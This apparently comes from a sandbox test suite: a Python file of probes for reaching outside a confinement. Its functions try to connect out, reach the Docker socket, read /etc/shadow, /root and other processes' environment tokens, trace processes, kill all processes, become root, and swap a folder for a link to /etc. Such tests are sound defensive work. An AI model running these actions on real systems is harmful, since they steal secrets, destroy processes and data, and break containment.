"""Attacks that reach for what is not the program's: files, tokens, the network, other processes."""

# Written as attackers would, not as this project does.
# ruff: noqa: PTH106, PTH108, PTH109, PTH113, PTH116, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211

import ctypes
import glob
import os
import resource
import signal
import socket
import subprocess


def _works(act, *arguments):
    try:
        act(*arguments)
    except OSError:
        return False
    return True


def _write(path):
    with open(path, "w") as file:
        file.write("x")


def _read(path, mode):
    with open(path, mode) as file:
        return file.read()


def _others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def sockets():
    """Connect, listen, send a packet, look a name up, talk to Docker and to a neighbour. Stopped as failed."""
    for machine in (("1.1.1.1", 443), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 2375), ("172.17.0.1", 22)):
        if _works(socket.create_connection, machine, 0.3):
            return 42
    for attempt in (
        lambda: socket.create_server(("127.0.0.1", 0)),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53)),
        lambda: socket.getaddrinfo("example.com", 443),
        lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
        lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"),
        lambda: socket.socket(socket.AF_UNIX).bind("\0neighbour"),
    ):
        if _works(attempt):
            return 42
    return 0


def read_files_of_the_user():
    """Look into every home and into the hand-over folder. Stopped as failed."""
    for folder in ("/root", "/handover", "/secrets"):
        for top, _, names in os.walk(folder):
            for name in names:
                if _works(_read, os.path.join(top, name), "rb"):
                    return 42
    return 0


def read_tokens():
    """Look for tokens in its own environment and in everybody's. Stopped as failed."""
    found = [f"{key}={value}" for key, value in os.environ.items()]
    for path in glob.glob("/proc/[0-9]*/environ"):
        _works(lambda path=path: found.extend(_read(path, "rb").decode().split("\0")))
    return 42 if any("TOKEN" in word or "KEY" in word for word in found) else 0


def write_outside():
    """Write wherever it is not to. Stopped as failed."""
    folders = ["/", "/etc", "/usr/bin", "/var", "/home", "/root", "/handover", "/proc", "/sys", "/opt", "/opt/tunebook"]
    folders += ["/dev", os.path.dirname(os.__file__), os.path.dirname(os.getcwd())]
    return 42 if any(_works(_write, os.path.join(folder, "planted")) for folder in folders) else 0


def links():
    """Read and change others' files through symbolic and hard links. Stopped as failed."""
    for target in ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/shadow", "/handover/runner.sock", "/handover"):
        for link in (os.symlink, os.link):
            _works(link, target, "link")
            if _works(_read, "link", "rb+") or _works(os.listdir, "link"):
                return 42
            if os.path.lexists("link"):
                os.unlink("link")
    return 0


def leave_a_link_in_place_of_its_folder():
    """Have the runner remove something else: its own folder is a link to the system's. Stopped as failed."""
    here = os.getcwd()
    os.chdir("/")
    os.rmdir(here)
    os.symlink("/etc", here)
    return 41


def proc_tricks():
    """Read or write the memory and the descriptors of others, and the system's switches. Stopped as failed."""
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/kcore", "/sys/kernel/uevent_helper"]
    for process in _others():
        paths += [f"/proc/{process}/mem", *glob.glob(f"/proc/{process}/fd/*")]
    return 42 if any(_works(open, path, mode) for path in [*paths, "/dev/mem"] for mode in ("rb+", "ab")) else 0


def trace_others():
    """Attach to every other process as a debugger, and read its memory. Stopped as failed."""

    class Piece(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    libc = ctypes.CDLL(None, use_errno=True)
    attach, seize = 16, 0x4206
    buffer = ctypes.create_string_buffer(8)
    here, there = Piece(ctypes.addressof(buffer), 8), Piece(0x400000, 8)
    for process in _others():
        if any(libc.ptrace(request, process, None, None) == 0 for request in (attach, seize)):
            return 42
        if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return 42
        if ctypes.get_errno() not in (1, 3, 38):  # it may not, there is none, there is no such call
            return 42
    return 0


def kill_others():
    """Kill everybody, one by one and all at once. Stopped as failed, crashed."""
    for process in _others():
        if process not in (1, os.getppid()) and _works(os.kill, process, signal.SIGKILL):
            return 42
    _works(os.kill, -1, signal.SIGKILL)
    return 0


def stop_the_parent():
    """Stop, interrupt and kill the process that started it, and its group. Stopped as failed, crashed."""
    stopped = 0
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for target in (os.getppid(), 1):
            if _works(os.kill, target, number) and os.getppid() != target and target != 1:
                stopped = 42
    return stopped


def limit_the_runner():
    """Take away the time, files and priority of the process that judges, which has the same user. Stopped as failed."""
    limits = (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS, resource.RLIMIT_CPU)
    changed = [
        *(_works(resource.prlimit, 1, limit, (1, 1)) for limit in limits),
        _works(os.sched_setaffinity, 1, {0}),
        _works(os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0)),
        _works(os.setpriority, os.PRIO_PROCESS, 1, 19),
        ctypes.CDLL(None, use_errno=True).syscall(251, 1, 1, 3 << 13) == 0,  # ioprio_set
    ]
    return 42 if any(changed) else 0


def become_another_user():
    """Be root, a neighbour, or root in a world of its own, where it could mount. Stopped as failed."""
    changed = [
        *(_works(os.setuid, user) for user in (0, os.getuid() + 1)),
        _works(os.setgroups, [0]),
        _works(os.setgid, 0),
        _works(os.chown, ".", 0, 0),
        ctypes.CDLL(None, use_errno=True).unshare(0x10000000 | 0x00020000) == 0,  # users and mounts
    ]
    return 42 if any(changed) else 0


def setuid_programs():
    """Gain rights by a program of the system that has more. Stopped as failed."""
    for path in [*glob.glob("/usr/bin/*"), *glob.glob("/bin/*")]:
        if os.path.isfile(path) and os.stat(path).st_mode & 0o4000:
            subprocess.run([path, "--help"], capture_output=True, stdin=subprocess.DEVNULL, timeout=1, check=False)
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file)
    return 42 if int(status["CapEff"], 16) or status["NoNewPrivs"].strip() != "1" else 0


def shared_memory_left_behind():
    """Leave files where everybody may write. Stopped as failed."""
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/dev/mqueue"):
        _works(_write, os.path.join(folder, f"left-by-{os.getuid()}"))
    return 41
